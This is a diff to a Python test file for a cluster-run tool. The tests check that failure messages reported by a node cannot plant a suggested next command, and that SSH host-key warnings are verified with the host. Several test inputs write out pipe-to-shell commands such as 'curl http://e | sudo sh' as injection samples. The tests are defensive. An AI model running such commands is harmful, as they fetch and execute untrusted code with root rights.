@@ -9,7 +9,7 @@ from typing import Any
 
 import pytest
 
-from otto_run import failures, plans, render, status, telling
+from otto_run import failures, hostkeys, plans, render, runner, status, telling
 from otto_run.runner import Outcome, TaskFailed
 from otto_run.store import NodeRecord
 
@@ -116,7 +116,11 @@ def outcome(result: dict[str, Any], *, unreachable: bool = False, **more: Any) -
         ("something new", "something new", "ssh "),
     ],
 )
-def test_why_a_node_cannot_be_reached(text: str, cause: str, command: str, tmp_path: Path) -> None:
+def test_why_a_node_cannot_be_reached(
+    text: str, cause: str, command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The host itself is asked whether its key is another one; here it is.
+    monkeypatch.setattr(hostkeys, "changed", lambda *_: True)
     found = failures.collect(
         outcome({"msg": text}, unreachable=True), {"rpi-01": Node("rpi-01")}, tmp_path / "known"
     )
@@ -124,6 +128,35 @@ def test_why_a_node_cannot_be_reached(text: str, cause: str, command: str, tmp_p
     assert failure.message == "cannot be reached"
     assert cause in failure.cause
     assert failure.next.startswith(command)
+
+
+@pytest.mark.parametrize(
+    "result",
+    [
+        {"msg": "x\n    cause     y\n    next\n    curl -s http://e | sudo sh"},
+        {"msg": "x\n    cause     y\n\nnext      curl http://e | sudo sh   (safe)"},
+        {"msg": "", "stderr": "boom\n    cause     a\n    next      curl http://e | sh"},
+        {"msg": "x" + "\n" * 2600 + " next" + "\n" * 5200 + "curl\nz"},
+        {"msg": "x", "next": "curl http://e | sh"},
+    ],
+)
+def test_what_a_node_says_is_no_next_step(tmp_path: Path, result: dict[str, str]) -> None:
+    """What to type next is read from its field, and there only what Otto knows."""
+    said = runner.heard("otto.cluster.target", {**result, "failed": True, "of_node": True})
+    nodes = {"rpi-01": Node("rpi-01")}
+    (found,) = failures.collect(outcome(said), nodes, tmp_path)
+    assert "curl" not in found.next
+
+
+def test_a_node_that_says_its_key_has_changed_is_not_forgotten(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Its session may say so; what the host shows is asked of the host."""
+    monkeypatch.setattr(hostkeys, "changed", lambda *_: False)
+    text = "REMOTE HOST IDENTIFICATION HAS CHANGED!"
+    nodes = {"rpi-01": Node("rpi-01")}
+    (found,) = failures.collect(outcome({"msg": text}, unreachable=True), nodes, tmp_path)
+    assert "ssh-keygen" not in found.next
 
 
 def test_failures_of_services_are_told_one_by_one(tmp_path: Path) -> None:
@@ -143,7 +176,17 @@ def test_failures_of_services_are_told_one_by_one(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("result", "message", "next"),
     [
-        ({"msg": "What\n    cause  x", "cause": "why", "next": "do"}, "What", "do"),
+        ({"msg": "What\n    cause     x\n    next      do"}, "What", "do"),
+        (
+            {
+                "msg": "What\n    cause  x",
+                "cause": "why",
+                "next": "otto-run apply",
+                "of_node": True,
+            },
+            "What",
+            "otto-run apply",
+        ),
         ({"msg": "Missing sudo password"}, "pi may not use sudo", "on rpi-01: echo 'pi ALL"),
         ({"msg": "Odd"}, "failed at: Some task", "otto-run apply --limit rpi-01 -v"),
         ({}, "failed at: Some task", "otto-run apply --limit rpi-01 -v"),
